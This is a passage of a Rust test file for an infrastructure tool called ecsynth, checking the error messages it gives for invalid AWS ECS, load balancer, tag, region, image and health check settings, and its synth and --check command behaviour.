            "error: stack `shop` › classic load balancer `jenkins` › `listeners.80`: an HTTP \
          listener sends every request, logins and session cookies included, in clear text, and \
          a classic ELB cannot redirect HTTP to HTTPS; use `ClassicListener::https(80, \
          certificate_arn).instance_port(8080)`, or opt in with \
          `.plain_http_because(\"<why>\")` on the load balancer"
        ]
    );
    assert_eq!(
        classic(|elb, _| {
            elb.listeners
                .push(ClassicListener::http(80).instance_port(8080));
            elb.plain_http_reason = Some(" ".into());
        })
        .len(),
        1,
        "a blank reason is no reason"
    );
    assert_eq!(
        classic(|elb, _| {
            elb.listeners
                .push(ClassicListener::http(80).instance_port(8080));
            *elb = elb
                .clone()
                .plain_http_because("the old monitoring speaks HTTP only");
        }),
        Vec::<String>::new()
    );
}

#[test]
fn classic_health_check_target() {
    for target in ["HTTP:8080", "TCP:50000/login", "HTTP:0/login", "8080"] {
        assert_eq!(
            classic(|elb, _| elb.health_check.target = target.into()),
            [format!(
                "error: stack `shop` › classic load balancer `jenkins` › `health_check.target`: \
                 `{target}` is not a health check target; write `HTTP:8080/login`, \
                 `HTTPS:443/path`, `TCP:50000` or `SSL:443`"
            )]
        );
    }
    assert_eq!(
        classic(|elb, _| elb.health_check.target = "TCP:50000".into()),
        Vec::<String>::new()
    );
}

#[test]
fn classic_health_check_timeout_below_interval() {
    assert_eq!(
        classic(|elb, _| elb.health_check.timeout = 30),
        ["error: stack `shop` › classic load balancer `jenkins` › `health_check.timeout`: 30 s is \
          not shorter than the interval (30 s); a check must time out before the next one starts"]
    );
    // Out of range already: one error, not two.
    assert_eq!(classic(|elb, _| elb.health_check.timeout = 61).len(), 1);
}

#[test]
fn classic_load_balancer_name_too_long() {
    assert_eq!(
        classic(|elb, _| elb.name = "jenkins-controller-and-agents".into()),
        ["error: stack `shop` › classic load balancer `jenkins-controller-and-agents` › `name`: \
          classic load balancer name `shop-jenkins-controller-and-agents` (made from the stack \
          name `shop` and the classic load balancer name `jenkins-controller-and-agents`) is 34 \
          characters, AWS allows at most 32; shorten the stack name `shop` or the classic load \
          balancer name `jenkins-controller-and-agents` by 2 characters"]
    );
}

// ---------------------------------------------------------------------------------------------
// Many problems at once

#[test]
fn every_problem_of_every_stack_comes_back_in_one_run() {
    let first = stack_with(|lb, service| {
        lb.prod_listener.port = 0;
        service.task_size.cpu = 300;
        service.log_retention_days = 2;
        code_deploy(service).auto_rollback = false;
    });
    let mut second = stack_with(|_, service| {
        service.containers[0].image.clear();
        health(service).interval = 1;
    });
    second.name = "shop2".into();
    let fields: Vec<(String, String)> = ecsynth::model::validate::validate_all([&first, &second])
        .into_iter()
        .map(|d| (d.stack, d.field))
        .collect();
    let expected = [
        ("shop", "prod_listener.port"),
        ("shop", "task_size.cpu"),
        ("shop", "log_retention_days"),
        ("shop", "deployment.auto_rollback"),
        ("shop2", "image"),
        ("shop2", "traffic.health_check.interval"),
        ("shop2", "traffic.health_check.timeout"),
    ];
    assert_eq!(
        fields,
        expected.map(|(stack, field)| (stack.to_owned(), field.to_owned()))
    );
}

// ---------------------------------------------------------------------------------------------
// The command line

fn invalid() -> Stack {
    let mut stack = stack_with(|lb, service| {
        lb.prod_listener.port = 0;
        service.task_size.cpu = 300;
    });
    stack.name = "invalid".into();
    stack
}

fn warned() -> Stack {
    let mut stack = stack_with(|_, service| code_deploy(service).auto_rollback = false);
    stack.name = "warned".into();
    stack
}

fn registry() -> Registry {
    let mut registry = stacks::registry();
    registry
        .register("invalid", invalid)
        .register("warned", warned);
    registry
}

#[test]
fn invalid_stacks_exit_2_report_every_problem_and_keep_their_previous_output() {
    let dir = support::scratch_dir("validation-invalid");
    let previous = dir.join("invalid").join("main.tf.json");
    fs::create_dir_all(previous.parent().expect("parent")).expect("mkdir");
    fs::write(&previous, "previous output\n").expect("seed");

    let (code, stdout, stderr) = run(
        &registry(),
        &["synth", "invalid", "dev", "--out", &out_arg(&dir)],
    );
    assert_eq!(code, 2);
    assert_eq!(
        stderr,
        "error: stack `invalid` › load balancer `web` › `prod_listener.port`: 0 is not a \
         listener port; allowed: 1 to 65535\n\
         error: stack `invalid` › service `api` › `task_size.cpu`: 300 is not a Fargate CPU \
         size; allowed: 256, 512, 1024, 2048, 4096, 8192, 16384\n"
    );
    assert_eq!(stdout, support::written_paths(&dir, "dev"));
    assert_eq!(
        fs::read_to_string(&previous).expect("kept"),
        "previous output\n"
    );
}

#[test]
fn warnings_are_printed_and_the_stack_is_written() {
    let dir = support::scratch_dir("validation-warned");
    let (code, stdout, stderr) = run(&registry(), &["synth", "warned", "--out", &out_arg(&dir)]);
    assert_eq!(code, 0);
    assert_eq!(
        stderr,
        "warning: stack `warned` › service `api` › `deployment.auto_rollback`: off: a failed \
         deployment leaves traffic where it stopped; turn it on unless something else rolls \
         back\n"
    );
    assert_eq!(
        stdout,
        format!(
            "{}\n{}\n",
            dir.join("warned").join("main.tf.json").display(),
            dir.join("warned")
                .join("terraform.tfvars.example")
                .display()
        )
    );
}

#[test]
fn deny_warnings_makes_them_fatal_and_writes_nothing_for_that_stack() {
    let dir = support::scratch_dir("validation-deny-warnings");
    let (code, stdout, stderr) = run(
        &registry(),
        &[
            "synth",
            "warned",
            "dev",
            "--deny-warnings",
            "--out",
            &out_arg(&dir),
        ],
    );
    assert_eq!(code, 2);
    assert_eq!(
        stderr,
        "warning: stack `warned` › service `api` › `deployment.auto_rollback`: off: a failed \
         deployment leaves traffic where it stopped; turn it on unless something else rolls \
         back\n\
         error: stack `warned`: 1 warning denied by `--deny-warnings`; nothing written\n"
    );
    assert_eq!(stdout, support::written_paths(&dir, "dev"));
    assert!(!dir.join("warned").exists(), "nothing written for `warned`");
}

#[test]
fn a_stack_that_calls_itself_by_another_name_is_refused() {
    fn misnamed() -> Stack {
        stacks::dev()
    }
    let mut registry = Registry::new();
    registry.register("qa", misnamed);
    let (code, _, stderr) = run(&registry, &["synth", "qa", "--out", "unused"]);
    assert_eq!(code, 2);
    assert_eq!(
        stderr,
        "error: stack `qa` › `name`: the stack calls itself `dev`; the registry name and \
         `Stack::name` must match\n"
    );
}

// `synth --check`

fn synth_all(dir: &Path) {
    let (code, _, stderr) = run(
        &stacks::registry(),
        &["synth", "--all", "--out", &out_arg(dir)],
    );
    assert_eq!(code, 0, "{stderr}");
}

#[test]
fn check_of_fresh_output_exits_0_and_writes_nothing() {
    let dir = support::scratch_dir("check-fresh");
    synth_all(&dir);
    let main = dir.join("prod").join("main.tf.json");
    let modified = fs::metadata(&main)
        .expect("written")
        .modified()
        .expect("mtime");
    let (code, stdout, stderr) = run(
        &stacks::registry(),
        &["synth", "--all", "--check", "--out", &out_arg(&dir)],
    );
    assert_eq!((code, stderr.as_str()), (0, ""));
    let expected: String = stacks::registry()
        .names()
        .map(|name| {
            let major = stacks::registry().get(name).expect("registered")().provider_major;
            format!(
                "up to date: stack `{name}` for {major} ({})\n",
                dir.join(name).display()
            )
        })
        .collect();
    assert_eq!(stdout, expected);
    assert_eq!(
        fs::metadata(&main)
            .expect("still there")
            .modified()
            .expect("mtime"),
        modified
    );
}

#[test]
fn check_of_stale_output_exits_1_naming_stack_file_resources_and_attributes() {
    use ecsynth::review::Json;
    let dir = support::scratch_dir("check-stale");
    synth_all(&dir);
    let main = dir.join("prod").join("main.tf.json");
    // Edited with key order kept, as a hand edit would.
    let mut json = Json::parse(&fs::read(&main).expect("read")).expect("JSON");
    let resources = json
        .get_mut("resource")
        .and_then(Json::as_object_mut)
        .expect("resources");
    // One resource edited, one removed from disk (so added by synth), one only on disk.
    *resources["aws_lb"]
        .get_mut("web")
        .and_then(|lb| lb.get_mut("internal"))
        .expect("aws_lb.web.internal") = Json::Bool(true);
    resources["aws_ecs_cluster"]
        .as_object_mut()
        .expect("clusters")
        .clear();
    resources.insert(
        "aws_sqs_queue".into(),
        Json::parse(br#"{"jobs": {"name": "jobs"}}"#).expect("JSON"),
    );
    fs::write(&main, json.to_pretty()).expect("write");
    let before = fs::read(&main).expect("read");

    let (code, stdout, stderr) = run(
        &stacks::registry(),
        &["synth", "dev", "prod", "--check", "--out", &out_arg(&dir)],
    );
    assert_eq!(code, 1, "{stderr}");
    assert_eq!(
        stdout,
        format!(
            "up to date: stack `dev` for hashicorp/aws 6.x ({})\n",
            dir.join("dev").display()
        )
    );
    let head = format!(
        "error: stack `prod` for hashicorp/aws 6.x: {} is out of date\n  \
         changed: aws_lb.web\n    \
         internal: true → false\n    \
         --- aws_lb.web on disk\n    \
         +++ aws_lb.web from synth\n    \
         @@ ",
        main.display()
    );
    assert!(stderr.starts_with(&head), "{stderr}");
    assert!(
        stderr.contains("\n    -  \"internal\": true,\n    +  \"internal\": false,\n"),
        "{stderr}"
    );
    assert!(
        stderr.ends_with(&format!(
            "\n  added: aws_ecs_cluster.main\n  \
             removed: aws_sqs_queue.jobs\n\
             error: committed output is stale; run `ecsynth synth prod --out {}` and commit \
             the result\n",
            out_arg(&dir)
        )),
        "{stderr}"
    );
    assert_eq!(
        fs::read(&main).expect("read"),
        before,
        "--check writes nothing"
    );
}

/// A one-character change inside `container_definitions` (JSON text in one long string) is
/// one attribute path and one changed line of the diff, in every registered stack.
#[test]
fn check_shows_a_changed_image_tag_as_one_line() {
    use ecsynth::review::Json;
    let dir = support::scratch_dir("check-image");
    synth_all(&dir);
    for name in stacks::registry().names() {
        let main = dir.join(name).join("main.tf.json");
        let text = fs::read_to_string(&main).expect("read");
        let json = Json::parse(text.as_bytes()).expect("JSON");
        let Some((label, image)) = json
            .get("resource")
            .and_then(|resources| resources.get("aws_ecs_task_definition"))
            .and_then(Json::as_object)
            .and_then(|tasks| tasks.first())
            .map(|(label, task)| {
                let definitions = task
                    .get("container_definitions")
                    .and_then(Json::as_str)
                    .expect("JSON text");
                let definitions = Json::parse(definitions.as_bytes()).expect("JSON");
                let Json::Array(containers) = definitions else {
                    panic!("container_definitions is a list");
                };
                let image = containers[0].get("image").and_then(Json::as_str);
                (label.clone(), image.expect("image").to_owned())
            })
        else {
            continue;
        };
        let stale = format!("{}X", image.strip_suffix(|_| true).expect("not empty"));
        let escaped = |image: &str| format!("\\\"image\\\":\\\"{image}\\\"");
        assert_eq!(text.matches(&escaped(&image)).count(), 1, "stack `{name}`");
        fs::write(&main, text.replace(&escaped(&image), &escaped(&stale))).expect("write");

        let (code, _, stderr) = run(
            &stacks::registry(),
            &["synth", name, "--check", "--out", &out_arg(&dir)],
        );
        assert_eq!(code, 1, "{stderr}");
        let address = format!("aws_ecs_task_definition.{label}");
        assert!(
            stderr.starts_with(&format!(
                "error: stack `{name}` for {}: {} is out of date\n  \
                 changed: {address}\n    \
                 container_definitions[0].image: \"{stale}\" → \"{image}\"\n    \
                 --- {address} on disk\n",
                stacks::registry().get(name).expect("registered")().provider_major,
                main.display()
            )),
            "{stderr}"
        );
        let removed: Vec<&str> = stderr
            .lines()
            .filter(|line| line.starts_with("    -") && !line.starts_with("    ---"))
            .collect();
        let added: Vec<&str> = stderr
            .lines()
            .filter(|line| line.starts_with("    +") && !line.starts_with("    +++"))
            .collect();
        assert_eq!(removed, [format!("    -        \"image\": \"{stale}\",")]);
        assert_eq!(added, [format!("    +        \"image\": \"{image}\",")]);
    }
}

#[test]
fn check_of_missing_output_exits_1() {
    let dir = support::scratch_dir("check-missing");
    synth_all(&dir);
    fs::remove_file(dir.join("staging").join("main.tf.json")).expect("remove");
    let (code, _, stderr) = run(
        &stacks::registry(),
        &["synth", "staging", "--check", "--out", &out_arg(&dir)],
    );
    assert_eq!(code, 1);
    assert_eq!(
        stderr,
        format!(
            "error: stack `staging` for hashicorp/aws 6.x: {} is missing\n\
             error: committed output is stale; run `ecsynth synth staging --out {}` and commit \
             the result\n",
            dir.join("staging").join("main.tf.json").display(),
            out_arg(&dir)
        )
    );
    assert!(!dir.join("staging").join("main.tf.json").exists());
}

#[test]
fn check_reports_output_that_is_not_json() {
    let dir = support::scratch_dir("check-not-json");
    synth_all(&dir);
    let main = dir.join("dev").join("main.tf.json");
    fs::write(&main, "<<<<<<< HEAD\n").expect("write");
    let (code, _, stderr) = run(
        &stacks::registry(),
        &["synth", "dev", "--check", "--out", &out_arg(&dir)],
    );
    assert_eq!(code, 1);
    assert!(
        stderr.starts_with(&format!(
            "error: stack `dev` for hashicorp/aws 6.x: {} is out of date\n  not valid JSON: ",
            main.display()
        )),
        "{stderr}"
    );
}

#[test]
fn check_of_an_invalid_stack_exits_2() {
    let dir = support::scratch_dir("check-invalid");
    let (code, stdout, stderr) = run(
        &registry(),
        &["synth", "invalid", "--check", "--out", &out_arg(&dir)],
    );
    assert_eq!((code, stdout.as_str()), (2, ""));
    assert!(stderr.contains("`task_size.cpu`"), "{stderr}");
}

// A reference to a resource of another document cannot reach a file: the write fails first.

#[test]
fn a_reference_outside_the_document_fails_the_write_and_keeps_the_previous_file() {
    use ecsynth::aws::{CloudwatchLogGroup, IamRole, Tags};
    use ecsynth::synth::Synthesized;
    use ecsynth::tf::{Document, TerraformSettings};

    let mut other = Document::new(TerraformSettings::new(">= 1.5.0"));
    let foreign = other.add(
        "foreign",
        IamRole {
            name: "x".into(),
            description: "x".into(),
            assume_role_policy: "{}".into(),
            tags: Tags::new(),
        },
    );
    let mut document = Document::new(TerraformSettings::new(">= 1.5.0"));
    document.add(
        "logs",
        CloudwatchLogGroup {
            name: foreign.name(),
            retention_in_days: 30,
            kms_key_id: None,
            tags: Tags::new(),
        },
    );
    let dir = support::scratch_dir("foreign-reference");
    let previous = dir.join("shop").join("main.tf.json");
    fs::create_dir_all(previous.parent().expect("parent")).expect("mkdir");
    fs::write(&previous, "previous output\n").expect("seed");
    let synthesized = Synthesized {
        stack: "shop".into(),
        document,
    };
    let error = synthesized
        .write_to(&dir)
        .expect_err("a foreign reference fails the write");
    assert!(
        error
            .to_string()
            .starts_with("stack `shop`: cannot render Terraform JSON"),
        "{error}"
    );
    assert_eq!(
        fs::read_to_string(&previous).expect("kept"),
        "previous output\n"
    );
}

#[test]
fn underscores_suit_ecs_but_not_target_groups() {
    assert_eq!(
        problems(|_, service| service.name = "api_v2".into()),
        ["error: stack `shop` › service `api_v2` › `name`: target group name `shop-api_v2-green` \
          (made from the stack name `shop` and the service name `api_v2`) contains `_`; target \
          group names allow only A-Z, a-z, 0-9 and `-`; rename the service name `api_v2`"]
    );
}

#[test]
fn a_load_balancer_id_from_another_stack_is_refused_even_when_its_index_exists_here() {
    let mut other = Stack::new("other", "eu-west-1");
    let foreign = other.add_load_balancer(LoadBalancer::application("web", Listener::http(80)));
    let mut stack = stack_with(|_, _| {});
    // Same index (0) as this stack's own load balancer, but handed out by `other`.
    stack.add_service(Service {
        name: "admin".into(),
        ..service(foreign)
    });
    let messages = messages(&stack);
    assert!(
        messages.contains(
            &"error: stack `shop` › service `admin` › `traffic.load_balancer`: refers to a load \
              balancer that was not added to this stack"
                .to_owned()
        ),
        "{messages:#?}"
    );
}

// ---------------------------------------------------------------------------------------------
// The catalogue's rules (issue 14): values AWS or the provider refuse later

/// The registered stacks' lowered resources, and each attribute they emit, all have a
/// catalogue row; so does the provider block.
#[test]
fn the_catalogue_covers_every_emitted_attribute() {
    let catalogue = ecsynth::model::validate::catalogue();
    let registry = stacks::registry();
    let mut missing = Vec::new();
    for name in registry.names() {
        let bytes = support::main_tf_json(&registry, name);
        let doc: serde_json::Value = serde_json::from_slice(&bytes).expect("JSON");
        let mut emitted: Vec<(String, String)> = Vec::new();
        for (kind, prefix) in [("resource", ""), ("data", "data.")] {
            for (resource_type, blocks) in doc[kind].as_object().into_iter().flatten() {
                for block in blocks.as_object().into_iter().flat_map(|b| b.values()) {
                    for attribute in block.as_object().into_iter().flat_map(|a| a.keys()) {
                        if !["//", "depends_on", "lifecycle"].contains(&attribute.as_str()) {
                            emitted.push((format!("{prefix}{resource_type}"), attribute.clone()));
                        }
                    }
                }
            }
        }
        for attribute in doc["provider"]["aws"]
            .as_object()
            .into_iter()
            .flat_map(|a| a.keys())
        {
            emitted.push(("provider.aws".into(), attribute.clone()));
        }
        for (resource, attribute) in emitted {
            let covered = catalogue.iter().any(|row| {
                row.resource == resource
                    && (row.attribute == attribute
                        || row.attribute.starts_with(&format!("{attribute}.")))
            });
            if !covered && !missing.contains(&(resource.clone(), attribute.clone())) {
                missing.push((resource, attribute));
            }
        }
    }
    assert!(
        missing.is_empty(),
        "attributes without a catalogue row: {missing:?}"
    );
}

#[test]
fn region_must_exist_in_the_aws_partition() {
    let mut stack = stack_with(|_, _| {});
    stack.region = "eu-west-9".into();
    assert_eq!(messages(&stack), ["error: stack `shop` › `region`: `eu-west-9` is not an AWS region (the provider refuses it at plan time); did you mean `eu-west-1`? regions: af-south-1, ap-east-1, ap-northeast-1, ap-northeast-2, ap-northeast-3, ap-south-1, ap-south-2, ap-southeast-1, ap-southeast-2, ap-southeast-3, ap-southeast-4, ap-southeast-5, ap-southeast-7, ca-central-1, ca-west-1, eu-central-1, eu-central-2, eu-north-1, eu-south-1, eu-south-2, eu-west-1, eu-west-2, eu-west-3, il-central-1, me-central-1, me-south-1, mx-central-1, sa-east-1, us-east-1, us-east-2, us-west-1, us-west-2"]);
    stack.region = "cn-north-1".into();
    assert_eq!(messages(&stack), ["error: stack `shop` › `region`: `cn-north-1` is in the `aws-cn` partition; ecsynth writes `arn:aws:` ARNs (managed policies, secret grants), so it supports the regions of the `aws` partition only"]);
}

#[test]
fn tags_follow_aws_tag_rules() {
    let mut stack = stack_with(|_, _| {});
    stack
        .tag("aws:team", "payments")
        .tag(&"k".repeat(129), "v")
        .tag("cost;centre", "a")
        .tag("Owner", &"v".repeat(257));
    assert_eq!(messages(&stack), ["error: stack `shop` › `tags`: tag key `aws:team` starts with `aws:`, which AWS reserves for its own tags; rename the tag", "error: stack `shop` › `tags`: tag key `kkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkkk` is 129 characters; AWS allows 1 to 128", "error: stack `shop` › `tags`: tag key `cost;centre` contains `;`; tags allow letters, digits, spaces and `_.:/=+-@`", "error: stack `shop` › `tags`: the value of tag `Owner` is 257 characters; AWS allows at most 256"]);
    let mut stack = stack_with(|_, _| {});
    for n in 0..48 {
        stack.tag(&format!("t{n}"), "v");
    }
    assert_eq!(messages(&stack), ["error: stack `shop` › `tags`: 48 tags, and ecsynth adds `Stack`, `ManagedBy` and `Name`: 51 on some resources, AWS allows at most 50; remove 1"]);
    // 47 of the user's own, with the three ecsynth adds, are the 50 AWS allows.
    let mut stack = stack_with(|_, _| {});
    for n in 0..47 {
        stack.tag(&format!("t{n}"), "v");
    }
    stack.tag("Stack", "replaced");
    assert_eq!(messages(&stack), Vec::<String>::new());
}

#[test]
fn stack_named_sg_is_refused() {
    let mut stack = stack_with(|_, _| {});
    stack.name = "sg".into();
    assert_eq!(messages(&stack), ["error: stack `sg` › `name`: security group names are `<stack>-…`, and EC2 refuses names starting with `sg-`; rename the stack"]);
}

#[test]
fn certificate_must_be_an_arn_of_the_region() {
    assert_eq!(
        problems(|lb, _| lb.prod_listener = Listener::https(443, "my-certificate")),
        ["error: stack `shop` › load balancer `web` › `prod_listener.certificate_arn`: `my-certificate` is not a certificate ARN: write `arn:aws:acm:<region>:<account>:certificate/<id>` (ACM) or `arn:aws:iam::<account>:server-certificate/<name>`"]
    );
    assert_eq!(
        problems(|lb, _| lb.prod_listener = Listener::https(
            443,
            "arn:aws:acm:us-east-1:123456789012:certificate/0b6f8e1c-2f4d"
        )),
        ["error: stack `shop` › load balancer `web` › `prod_listener.certificate_arn`: `arn:aws:acm:us-east-1:123456789012:certificate/0b6f8e1c-2f4d` is not a certificate ARN: the certificate is in `us-east-1`, and a load balancer takes certificates of its own region (`eu-west-1`) only; request or import it in `eu-west-1`"]
    );
    assert_eq!(
        problems(|lb, _| lb.prod_listener =
            Listener::https(443, "arn:aws:iam::123456789012:server-certificate/shop")),
        Vec::<String>::new()
    );
}

#[test]
fn ssl_policy_must_be_predefined() {
    assert_eq!(
        problems(|lb, _| {
            let mut listener = Listener::https(
                443,
                "arn:aws:acm:eu-west-1:123456789012:certificate/0b6f8e1c-2f4d",
            );
            listener.ssl_policy = "TLS13".into();
            lb.prod_listener = listener;
        }),
        ["error: stack `shop` › load balancer `web` › `prod_listener.ssl_policy`: `TLS13` is not a predefined security policy; they are named `ELBSecurityPolicy-…`, e.g. the default `ELBSecurityPolicy-TLS13-1-2-2021-06`"]
    );
}

#[test]
fn cidrs_must_be_ipv4_network_addresses() {
    assert_eq!(
        problems(|lb, _| {
            *lb = lb.clone().allowed_cidrs(&["10.0.0.1/8", "10.0.0.0/33", "::/0", "office"]);
        }),
        ["error: stack `shop` › load balancer `web` › `allowed_cidrs`: `10.0.0.1/8` has host bits set; AWS takes the network address, `10.0.0.0/8`", "error: stack `shop` › load balancer `web` › `allowed_cidrs`: `10.0.0.0/33` is not a CIDR range: the prefix `33` is not 0 to 32", "error: stack `shop` › load balancer `web` › `allowed_cidrs`: `::/0` is an IPv6 range; the security group rules ecsynth writes are IPv4", "error: stack `shop` › load balancer `web` › `allowed_cidrs`: `office` is not a CIDR range; write `address/prefix`, e.g. `10.0.0.0/8`"]
    );
    assert_eq!(
        problems(|lb, _| *lb = lb.clone().test_listener_cidrs(&[])),
        ["error: stack `shop` › load balancer `web` › `test_listener_cidrs`: no ranges: nothing could reach the listeners; give at least one, e.g. `0.0.0.0/0` or `10.0.0.0/8`"]
    );
}

#[test]
fn deregistration_delay_is_at_most_an_hour() {
    assert_eq!(
        problems(|_, service| service.traffic_mut().expect("traffic").deregistration_delay = 3601),
        ["error: stack `shop` › service `api` › `traffic.deregistration_delay`: 3601 s is outside the target group range 0 to 3600 seconds"]
    );
    assert_eq!(
        problems(|_, service| service.traffic_mut().expect("traffic").deregistration_delay = 3600),
        Vec::<String>::new()
    );
}

#[test]
fn grace_period_and_desired_count_fit_an_integer() {
    assert_eq!(
        problems(|_, service| {
            service.health_check_grace_period_seconds = 2_147_483_648;
            service.desired_count = u32::MAX;
        }),
        ["error: stack `shop` › service `api` › `desired_count`: 4294967295 is above ECS's maximum 2147483647; allowed: 0 to 2147483647", "error: stack `shop` › service `api` › `health_check_grace_period_seconds`: 2147483648 is above ECS's maximum 2147483647; allowed: 0 to 2147483647"]
    );
}

fn edit_app(edit: impl FnOnce(&mut Container)) -> Vec<String> {
    problems(|_, service| edit(&mut service.containers[0]))
}

/// A process environment cannot hold NUL: execve(2) takes NUL-terminated strings, and the
/// container runtime (runc, `libcontainer`) refuses such an entry, so ECS cannot start the task.
#[test]
fn environment_values_hold_no_nul() {
    assert_eq!(
        edit_app(|app| *app = app.clone().env("MODE", "a\0b")),
        [
            "error: stack `shop` › service `api` › container `app` › `environment.MODE`: `a\\0b` \
          contains U+0000; a process environment cannot hold NUL (execve(2) ends each string \
          there) and the container runtime refuses to start the container"
        ]
    );
    assert_eq!(
        edit_app(|app| *app = app.clone().env("MODE", "line\nbreak ${x} 漢字")),
        Vec::<String>::new()
    );
}

/// ECS HealthCheck runs its command through Docker with execve(2), whose arguments cannot hold
/// NUL; `CMD-SHELL` with a blank command runs `sh -c ""`, which always exits 0.
#[test]
fn health_check_commands_are_not_blank_and_hold_no_nul() {
    for command in ["  ", "curl\0 -f localhost"] {
        let shown = command.escape_debug().to_string();
        assert_eq!(
            edit_app(|app| {
                *app = app
                    .clone()
                    .health_check(ecsynth::model::ContainerHealthCheck::shell(command));
            }),
            [format!(
                "error: stack `shop` › service `api` › container `app` › \
                 `health_check.command`: `{shown}` is blank or contains U+0000; each part of a \
                 health check command is non-blank text without NUL, which Docker passes to the \
                 program as an argument"
            )]
        );
    }
}

/// ECS registers any image of its characters, but the agent pulls it with Docker, whose
/// reference grammar (github.com/distribution/reference `reference.go`) refuses the others:
/// the task then stops with `CannotPullContainerError`.
#[test]
fn images_are_references_docker_can_pull() {
    let refusal = |image: &str| {
        let image = image.to_owned();
        edit_app(move |app| app.image = image)
    };
    let message = |image: &str, problem: &str| {
        format!(
            "error: stack `shop` › service `api` › container `app` › `image`: `{image}` is not an \
             image reference Docker can pull: {problem}; write \
             `[registry/]repository[:tag][@digest]`, e.g. `nginx:1.27`"
        )
    };
    let path = "repository path parts are lower-case letters and digits joined by `.`, `_`, \
                `__` or `-`, separated by `/`";
    assert_eq!(refusal("shop/../app"), [message("shop/../app", path)]);
    assert_eq!(
        refusal("../../escaped"),
        [message(
            "../../escaped",
            "the registry is not a host name with an optional `:port`"
        )]
    );
    assert_eq!(refusal("Shop/API:1"), [message("Shop/API:1", path)]);
    assert_eq!(
        refusal("repo:"),
        [message(
            "repo:",
            "the tag after `:` is 1 to 128 of A-Z, a-z, 0-9, `_`, `.`, `-`, not starting with \
             `.` or `-`"
        )]
    );
    assert_eq!(
        refusal("@@ecsynth-hole-0@@"),
        [message(
            "@@ecsynth-hole-0@@",
            "the digest after `@` is not `<algorithm>:<at least 32 hex digits>`"
        )]
    );
    assert_eq!(
        refusal("my-registry-.example.com/app:1"),
        [message(
            "my-registry-.example.com/app:1",
            "the registry is not a host name with an optional `:port`"
        )]
    );
    for image in [
        "nginx",
        "localhost:5000/team/app_v2__x:1.0-rc.1",
        "123456789012.dkr.ecr.eu-west-1.amazonaws.com/orders:2.7.1",
        "public.ecr.aws/aws-observability/aws-for-fluent-bit:2",
    ] {
        assert_eq!(refusal(image), Vec::<String>::new(), "{image}");
    }
}

#[test]
fn image_has_ecs_characters_and_length() {
    assert_eq!(edit_app(|app| app.image = "nginx:1.27 latest".into()), ["error: stack `shop` › service `api` › container `app` › `image`: `nginx:1.27 latest` contains ` `; an image reference allows A-Z, a-z, 0-9 and `-_:./#@`"]);
    assert_eq!(edit_app(|app| app.image = "a".repeat(256)), ["error: stack `shop` › service `api` › container `app` › `image`: the image is 256 characters; ECS allows at most 255"]);
    assert_eq!(
        edit_app(|app| app.image = format!("{}@sha256:{}", "r", "a".repeat(64))),
        Vec::<String>::new()
    );
}

#[test]
fn environment_names_are_docker_names() {
    assert_eq!(
        edit_app(|app| *app = app.clone().env("A=B", "1").env("MY VAR", "2")),
        ["error: stack `shop` › service `api` › container `app` › `environment`: environment variable name `A=B` contains `=`; Docker passes variables as `NAME=value`", "error: stack `shop` › service `api` › container `app` › `environment`: environment variable name `MY VAR` contains ` `; use letters, digits and `_`, e.g. `MY_VAR`"]
    );
}

#[test]
fn secret_arns_are_well_formed() {
    assert_eq!(
        edit_app(|app| {
            *app = app
                .clone()
                .secret("A", "arn:aws:ssm:eu-west-1:1234:parameter/a")
                .secret("B", "arn:aws:secretsmanager:eu-west-1:123456789012:db")
                .secret("C", "arn:aws:ssm:eu-west-1:123456789012:parameter/a b")
                .secret(
                    "D",
                    "arn:aws:secretsmanager:eu-west-1:123456789012:secret:db-AbCdEf:password::",
                )
        }),
        ["error: stack `shop` › service `api` › container `app` › `secrets.A`: `arn:aws:ssm:eu-west-1:1234:parameter/a` is not a well-formed ARN: the account `1234` is not 12 digits", "error: stack `shop` › service `api` › container `app` › `secrets.B`: `arn:aws:secretsmanager:eu-west-1:123456789012:db` is not a well-formed ARN: `db` is not `secret:<name>`", "error: stack `shop` › service `api` › container `app` › `secrets.C`: `arn:aws:ssm:eu-west-1:123456789012:parameter/a b` is not a well-formed ARN: the name `a b` contains ` `; names allow A-Z, a-z, 0-9 and `_.-/`"]
    );
}

#[test]
fn ulimits_have_names_and_soft_below_hard() {
    assert_eq!(
        edit_app(|app| {
            *app = app
                .clone()
                .ulimit(Ulimit::new("files", 1))
                .ulimit(Ulimit::new("nofile", 1024).soft_limit(2048))
                .ulimit(Ulimit::new("nproc", 1))
                .ulimit(Ulimit::new("nproc", 1))
        }),
        ["error: stack `shop` › service `api` › container `app` › `ulimits`: `files` is not a ulimit name; allowed: core, cpu, data, fsize, locks, memlock, msgqueue, nice, nofile, nproc, rss, rtprio, rttime, sigpending, stack", "error: stack `shop` › service `api` › container `app` › `ulimits.nofile`: soft limit 2048 is above the hard limit 1024; the soft limit must not exceed the hard limit", "error: stack `shop` › service `api` › container `app` › `ulimits.nproc`: `nproc` is set twice; set each ulimit once"]
    );
    assert_eq!(
        edit_app(|app| *app = app.clone().ulimit(Ulimit::new("nofile", 1_048_577))),
        ["error: stack `shop` › service `api` › container `app` › `ulimits.nofile`: hard limit 1048577 is above Fargate's 1048576 open files"]
    );
}

#[test]
fn container_health_check_has_ecs_ranges() {
    use ecsynth::model::ContainerHealthCheck;
    let at = |interval, timeout, retries, start_period| ContainerHealthCheck {
        command: vec!["CMD".into(), "/bin/check".into()],
        interval,
        timeout,
        retries,
        start_period,
    };
    assert_eq!(
        edit_app(|app| app.health_check = Some(at(4, 121, 0, 301))),
        ["error: stack `shop` › service `api` › container `app` › `health_check.interval`: 4 is outside ECS's range 5 to 300 seconds", "error: stack `shop` › service `api` › container `app` › `health_check.timeout`: 121 is outside ECS's range 2 to 120 seconds", "error: stack `shop` › service `api` › container `app` › `health_check.retries`: 0 is outside ECS's range 1 to 10", "error: stack `shop` › service `api` › container `app` › `health_check.start_period`: 301 is outside ECS's range 0 to 300 seconds"]
    );
    assert_eq!(
        edit_app(|app| app.health_check = Some(at(301, 1, 11, 0))),
        ["error: stack `shop` › service `api` › container `app` › `health_check.interval`: 301 is outside ECS's range 5 to 300 seconds", "error: stack `shop` › service `api` › container `app` › `health_check.timeout`: 1 is outside ECS's range 2 to 120 seconds", "error: stack `shop` › service `api` › container `app` › `health_check.retries`: 11 is outside ECS's range 1 to 10"]
    );
    assert_eq!(
        edit_app(|app| app.health_check = Some(at(5, 2, 1, 0))),
        Vec::<String>::new()
    );
    assert_eq!(
